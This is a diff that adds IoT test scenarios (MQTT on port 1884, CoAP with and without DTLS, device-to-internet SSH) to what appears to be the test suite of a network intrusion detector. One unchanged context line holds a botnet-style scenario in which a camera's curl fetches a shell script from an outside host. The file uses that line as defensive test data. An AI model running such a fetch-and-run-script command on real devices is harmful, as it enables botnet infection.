@@ -230,3 +230,39 @@ IT += [
     _http("http-botnet-script", "a camera's curl fetching a shell script from an internet host", OUTSIDE, DEVICE,
           [f"{CURL} http://{OUTSIDE}/i.sh"], {"iot-botnet-shell-script-download": 1}),
 ]
+
+MQTT_BROKER = "192.168.200.2"
+COAP_TOOLS = ["libcoap3-bin"]
+SSHD = ("ssh-keygen -q -t ed25519 -N '' -f {tmp}/hostkey && mkdir -p /run/sshd && "
+        "/usr/sbin/sshd -D -e -f {tmp}/sshd_config -o ListenAddress={addr}")
+SSHD_CONFIG = "sshd_config=HostKey {tmp}/hostkey\nPasswordAuthentication no\nKbdInteractiveAuthentication no\nUsePAM no\n"
+SSH = "ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5"
+
+IT += [
+    Scenario("mqtt-port-1884", "mosquitto_pub with a user name from a sensor to a broker listening on 1884",
+             [f"{MQTT_BROKER}/24"], [f"{DEVICE}/24"], servers=["mosquitto -c {tmp}/mosquitto.conf"],
+             clients=["sleep 1", f"mosquitto_pub -h {MQTT_BROKER} -p 1884 -u sensor -P s3nsor -t sensors/t -m 21.5"],
+             expect={"iot-mqtt-nonstandard-port": 1}, tools=["mosquitto", "mosquitto-clients"],
+             setup=[f"mosquitto.conf=listener 1884 {MQTT_BROKER}\nallow_anonymous true\n"]),
+    Scenario("coap-get-core", "libcoap coap-client GET /.well-known/core of a device's coap-server (5683)",
+             [f"{DEVICE}/24"], [f"{CORP_WS}/8"], servers=[f"coap-server-notls -A {DEVICE} -p 5683"],
+             clients=["sleep 1", f"coap-client-notls -B 3 -m get coap://{DEVICE}/.well-known/core",
+                      f"coap-client-notls -B 3 -m get coap://{DEVICE}/time"],
+             expect={"iot-coap-without-dtls": 1}, tools=COAP_TOOLS),
+    Scenario("coap-port-5700", "the same on a non-standard port (5700)", [f"{DEVICE}/24"], [f"{CORP_WS}/8"],
+             servers=[f"coap-server-notls -A {DEVICE} -p 5700"],
+             clients=["sleep 1", f"coap-client-notls -B 3 -m get coap://{DEVICE}:5700/time"],
+             expect={"iot-coap-without-dtls": 1}, tools=COAP_TOOLS),
+    Scenario("coaps-psk", "libcoap over DTLS (PSK, 5684): coap-client-openssl GET /time", [f"{DEVICE}/24"],
+             [f"{CORP_WS}/8"], servers=[f"coap-server-openssl -A {DEVICE} -k s1te-psk-key -h ipcam"],
+             clients=["sleep 1", f"coap-client-openssl -B 3 -u ipcam -k s1te-psk-key -m get coaps://{DEVICE}/time"],
+             tools=COAP_TOOLS),
+    Scenario("ssh-device-to-internet", "OpenSSH client on a device connecting to an internet host's sshd (key-only, "
+             "the login is refused)", [f"{OUTSIDE}/24"], [f"{DEVICE}/24"], servers=[SSHD.replace("{addr}", OUTSIDE)],
+             clients=["sleep 2", f"{SSH} root@{OUTSIDE} true"], expect={"iot-outbound-ssh": 1},
+             tools=["openssh-server", "openssh-client"], setup=[SSHD_CONFIG]),
+    Scenario("ssh-workstation-to-device", "OpenSSH client on a workstation connecting to a device's sshd",
+             [f"{DEVICE}/24"], [f"{CORP_WS}/8"], servers=[SSHD.replace("{addr}", DEVICE)],
+             clients=["sleep 2", f"{SSH} root@{DEVICE} true"], tools=["openssh-server", "openssh-client"],
+             setup=[SSHD_CONFIG]),
+]
